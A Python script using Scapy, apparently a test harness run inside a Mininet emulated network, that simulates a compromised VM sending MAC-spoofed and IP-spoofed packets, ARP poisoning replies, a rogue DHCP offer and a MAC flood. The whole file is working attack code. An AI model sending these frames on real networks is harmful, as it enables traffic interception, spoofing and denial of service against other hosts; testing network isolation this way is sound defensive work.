"""Run inside a Mininet host: attacks a compromised VM would try.

    python scapy_attacks.py IFACE KIND [args...]
      macspoof SPOOF_MAC DST_MAC DST_IP     IP/UDP with someone else's MAC
      ipspoof OWN_MAC SPOOF_IP DST_MAC DST_IP PORT   TCP SYN with someone else's IP
      arppoison OWN_MAC VICTIM_MAC VICTIM_IP CLAIMED_IP   ARP reply: CLAIMED_IP is-at OWN_MAC
      dhcp OWN_MAC OWN_IP                   DHCP offer (server port 67) to broadcast
      macflood COUNT                        COUNT frames with random source MACs
"""

import sys

from scapy.all import ARP, BOOTP, DHCP, IP, TCP, UDP, Ether, RandMAC, Raw, sendp

iface, kind, args = sys.argv[1], sys.argv[2], sys.argv[3:]
if kind == "macspoof":
    spoof, dst_mac, dst_ip = args
    pkts = [Ether(src=spoof, dst=dst_mac) / IP(dst=dst_ip) / UDP(dport=5432) / Raw(b"x" * 20)] * 5
elif kind == "ipspoof":
    own, spoof_ip, dst_mac, dst_ip, port = args
    pkts = [Ether(src=own, dst=dst_mac) / IP(src=spoof_ip, dst=dst_ip) / TCP(dport=int(port),
            flags="S")] * 5
elif kind == "arppoison":
    own, victim_mac, victim_ip, claimed = args
    pkts = [Ether(src=own, dst=victim_mac) / ARP(op=2, hwsrc=own, psrc=claimed,
            hwdst=victim_mac, pdst=victim_ip)] * 5
elif kind == "dhcp":
    own, own_ip = args
    pkts = [Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / IP(src=own_ip, dst="255.255.255.255")
            / UDP(sport=67, dport=68) / BOOTP(op=2, yiaddr="10.0.3.99")
            / DHCP(options=[("message-type", "offer"), "end"])] * 5
elif kind == "macflood":
    n = int(args[0])
    pkts = [Ether(src=RandMAC(), dst="ff:ff:ff:ff:ff:ff") / Raw(b"flood") for _ in range(n)]
else:
    raise SystemExit(f"unknown attack {kind}")
sendp(pkts, iface=iface, verbose=False)
print("sent", len(pkts))
